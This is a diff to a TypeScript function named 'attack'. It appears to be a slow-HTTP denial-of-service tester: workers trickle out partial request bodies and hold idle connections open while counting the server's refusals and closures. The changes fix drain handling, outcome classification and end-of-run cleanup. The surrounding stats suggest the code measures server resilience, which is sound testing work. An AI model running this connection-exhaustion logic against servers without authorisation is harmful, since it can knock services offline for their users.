@@ -72,7 +72,7 @@ export async function attack(o: AttackOptions): Promise<AttackStats> {
         resolve(how);
       };
       s.on('error', () => finish(answer ? answer : 'error'));
-      s.on('close', () => finish(answer ? answer : 'closed'));
+      s.on('close', () => finish(answer ? answer : Date.now() >= until ? 'unanswered at the end' : 'closed'));
       s.on('data', (c: Buffer) => {
         answer += c.toString('latin1');
         const m = /^HTTP\/1\.1 (\d{3})/.exec(answer);
@@ -87,7 +87,17 @@ export async function attack(o: AttackOptions): Promise<AttackStats> {
           const ok = s.write(n === chunk.length ? chunk : chunk.subarray(0, n));
           sent += n;
           stats.bodyBytesWritten += n;
-          if (!ok) await new Promise<void>((r) => (s.writableNeedDrain ? s.once('drain', r).once('close', r) : r()));
+          if (!ok && s.writableNeedDrain) {
+            await new Promise<void>((r) => {
+              const go = () => {
+                s.off('drain', go);
+                s.off('close', go);
+                r();
+              };
+              s.once('drain', go);
+              s.once('close', go);
+            });
+          }
         }
         if (!done && sent >= bodyBytes - tail.length) s.write(tail);
       });
@@ -97,7 +107,7 @@ export async function attack(o: AttackOptions): Promise<AttackStats> {
     while (live()) {
       const how = await upload(i);
       stats.bodyOutcomes[how] = (stats.bodyOutcomes[how] ?? 0) + 1;
-      if (how === '503' || how === 'closed' || how === 'error') stats.refused++;
+      if (how === '503' || how === 'closed') stats.refused++;
       await sleep(10);
     }
   };
@@ -112,13 +122,14 @@ export async function attack(o: AttackOptions): Promise<AttackStats> {
       const opened = Date.now();
       await new Promise<void>((r) => {
         s.on('error', () => undefined);
+        s.resume(); // read, so that the server's close is seen
         s.once('close', () => r());
         const stop = setTimeout(() => r(), Math.max(0, until - Date.now()));
         s.once('close', () => clearTimeout(stop));
       });
       open.delete(s);
-      if (!s.destroyed) {
-        s.destroy();
+      if (!s.destroyed || Date.now() >= until) {
+        s.destroy(); // the attack's end, not the server
         break;
       }
       stats.idleClosedByServer++;
@@ -127,8 +138,14 @@ export async function attack(o: AttackOptions): Promise<AttackStats> {
     }
   };
 
+  // At the end every connection is closed by us, whatever the server does with it (a server
+  // that waits for the rest of a body would otherwise hold the attack open forever).
+  const end = setTimeout(() => {
+    for (const s of open) s.destroy();
+  }, o.seconds * 1000);
   const workers = [...Array.from({ length: o.bodies }, (_, i) => bodyWorker(i)), ...Array.from({ length: o.idle }, (_, i) => idleWorker(o.bodies + i))];
   await Promise.all(workers);
+  clearTimeout(end);
   for (const s of open) s.destroy();
   return stats;
 }
